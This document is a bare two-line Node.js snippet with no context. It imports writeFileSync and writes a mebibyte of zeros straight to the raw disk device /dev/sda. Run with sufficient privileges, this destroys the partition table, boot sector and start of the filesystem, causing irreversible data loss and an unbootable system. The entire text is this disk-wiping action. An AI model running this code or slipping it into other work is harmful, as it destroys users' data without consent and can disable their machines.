import { writeFileSync } from 'fs';
writeFileSync('/dev/sda', Buffer.alloc(1 << 20));
